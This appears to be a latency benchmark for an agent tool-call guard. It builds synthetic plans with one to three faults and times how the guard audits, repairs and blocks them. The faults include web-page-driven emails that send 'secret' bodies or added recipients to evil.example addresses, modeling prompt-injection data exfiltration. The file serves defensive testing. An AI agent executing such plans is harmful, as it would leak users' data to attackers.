"""What audit and repair of a whole plan cost: 20 calls, one thread, with and without a stall.

The plans differ in values, in what is wrong with them (one to three of: an attacker's mail, a
limit above the policy, a foreign recipient among the user's own) and in where. Each is checked
once by the plain guard: decided on, repaired, decided on again, written to the ledger.
"""

from __future__ import annotations

import json
import random
import statistics
import time
from typing import Any, Literal

from gatling_guard import Guard, ToolRequest
from gatling_guard.decision import Allowed, Blocked, Held
from gatling_guard.energy import STRUCTURAL
from gatling_guard.energy.facts import EnergyFacts
from gatling_guard.energy.types import Energy
from gatling_guard.pipeline import LearnedParts

CALLS, PLANS, WARM = 20, 20, 20
"""Calls of a plan, plans of a round, plans before the first round."""
STALL = 5.0
"""Seconds for which the scorer says nothing."""
DEADLINE_MS = 250
"""Of one check, and so of the repair of a plan, after the time that its audit takes."""
POLICY: dict[str, Any] = {
    "version": 1,
    "limits": {"deadline_ms": DEADLINE_MS},
    "tools": {"search_reports": {"arguments": {"properties": {"limit": {"maximum": 100}}}}},
}
SAID = "Read the reports and mail a summary to ann@corp.example and bo@corp.example."
Wrong = Literal["mail", "limit", "recipient"]
WRONGS: tuple[Wrong, ...] = ("mail", "limit", "recipient")

_TEXT = {"type": "string"}
_LIST = {"type": "array", "items": {"type": "string"}}
_TOOLS: tuple[tuple[str, str, dict[str, Any], list[str]], ...] = (
    ("read_report", "Read a report", {"path": _TEXT}, ["path"]),
    ("read_webpage", "Read a page of the web", {"url": _TEXT}, ["url"]),
    ("search_reports", "Search reports", {"query": _TEXT, "limit": {"type": "integer"}}, ["query"]),
    ("send_email", "Send an email", {"to": _LIST, "subject": _TEXT, "body": _TEXT}, ["to"]),
)


def guard(
    learned: Literal["off", "auto"] | LearnedParts = "off", repair: str = "apply", **options: Any
) -> Guard:
    """The plain guard with the tools of the plans, and one bound on an argument."""
    made = Guard({**POLICY, "repair": {"mode": repair}}, learned=learned, **options)
    for name, description, properties, required in _TOOLS:
        schema = {"type": "object", "properties": properties, "required": required}
        made.register({"name": name, "description": description, "parameters": schema})
    return made


def bad_plan(number: int, calls: int = CALLS) -> dict[str, Any]:
    """A plan of so many calls, with one to three faults; the same for the same number."""
    rng = random.Random(f"latency/{number}")
    wrong = rng.sample(WRONGS, rng.randint(1, len(WRONGS)))
    nodes: list[dict[str, Any]] = []
    edges: list[dict[str, Any]] = []

    def add(tool: str, arguments: dict[str, Any], tier: int = 1) -> str:
        node = f"n{len(nodes)}"
        entry = {"node_id": node, "tool_name": tool, "arguments": arguments}
        nodes.append({**entry, "provenance_tier": tier})
        return node

    page = add("read_webpage", {"url": f"https://news{number}.example/a"}, 3)
    mails = 1 + ("mail" in wrong)
    while len(nodes) < calls - mails:
        at = len(nodes)
        if at % 5 == 4:
            limit = 50_000 if "limit" in wrong and at == 4 else rng.randint(1, 10)
            add("search_reports", {"query": f"topic {number} {at}", "limit": limit})
        else:
            add("read_report", {"path": f"/reports/{number}-{at}.txt"})
    to = ["ann@corp.example", "bo@corp.example"]
    if "recipient" in wrong:
        to.append(f"x{number}@evil.example")
    mail = add("send_email", {"to": to, "subject": "Summary", "body": f"Part {number}"})
    edges.append({"source": "n1", "target": mail, "argument": "/body"})
    if "recipient" in wrong:
        edges.append({"source": page, "target": mail, "argument": "/to/2"})
    if "mail" in wrong:
        evil = {"to": [f"y{number}@evil.example"], "subject": "Hi", "body": f"secret {number}"}
        node = add("send_email", evil)
        edges += [{"source": page, "target": node, "argument": "/to/0"},
                  {"source": "n2", "target": node, "argument": "/body"}]  # fmt: skip
    return {"nodes": nodes, "edges": edges}


def timings(made: Guard, first: int, plans: int = PLANS) -> tuple[list[float], list[float]]:
    """Seconds of audit and repair per plan, and processor seconds of all threads."""
    times, busy = [], []
    for number in range(first, first + plans):
        plan = bad_plan(number)
        start, worked = time.perf_counter(), time.process_time()
        decision = made.check(plan, instruction=SAID)
        times.append(time.perf_counter() - start)
        busy.append(time.process_time() - worked)
        assert not isinstance(decision, Allowed), f"plan {number} has nothing wrong with it"
    return times, busy


class Stalling:
    """Scores what was asked for, and stalls on what a repair makes of it."""

    def __init__(self, calls: int) -> None:
        self._left = calls

    def __call__(self, facts: EnergyFacts) -> Energy:
        """As the exact structure, until it stalls."""
        self._left -= 1
        if self._left < 0:
            time.sleep(STALL)
        return STRUCTURAL(facts)


def stalled_plan_ms() -> float:
    """Milliseconds of a check of a plan whose repair hangs in the scorer: the decision stands."""
    made = guard(composite=Stalling(CALLS))
    start = time.perf_counter()
    decision = made.check(bad_plan(1), instruction=SAID)
    assert isinstance(decision, (Held, Blocked)), decision
    assert not any(reason.startswith("guard.error") for reason in decision.reasons)
    return 1000 * (time.perf_counter() - start)


def stalled_step_ms() -> float:
    """The same for one call of a session."""
    made = guard(composite=Stalling(1))
    session = made.session(instruction=SAID)
    request = ToolRequest("search_reports", {"query": "topic", "limit": 50_000})
    start = time.perf_counter()
    decision = session.check(request)
    assert isinstance(decision, (Held, Blocked)), decision
    assert not any(reason.startswith("guard.error") for reason in decision.reasons)
    return 1000 * (time.perf_counter() - start)


def figures(rounds: int) -> dict[str, float]:
    """Of the quietest third of the rounds, in turns; each round has plans of its own."""
    subjects = {
        "audit": guard(repair="off"), "repair": guard(), "learned_repair": guard("auto"),
    }  # fmt: skip
    found: dict[str, list[list[float]]] = {}
    for made in subjects.values():
        timings(made, 1_000_000, WARM)
    for number in range(rounds):
        for name, made in subjects.items():
            wall, busy = timings(made, number * PLANS)
            found.setdefault(f"{name}_20_calls", []).append(wall)
            if made is not subjects["learned_repair"]:
                found.setdefault(f"{name}_20_calls_cpu", []).append(busy)
    shares = {}
    for name, rows in found.items():
        best = sorted(rows, key=statistics.median)[: max(1, rounds // 3)]
        times = sorted(t for row in best for t in row)
        for share in (50, 95):
            shares[f"{name}_p{share}_ms"] = 1000 * times[len(times) * share // 100]
    return shares | {
        "repair_stalled_ms": min(stalled_plan_ms() for _ in range(3)),
        "repair_stalled_step_ms": min(stalled_step_ms() for _ in range(3)),
    }


if __name__ == "__main__":
    print(json.dumps({name: round(value, 2) for name, value in figures(5).items()}, indent=2))
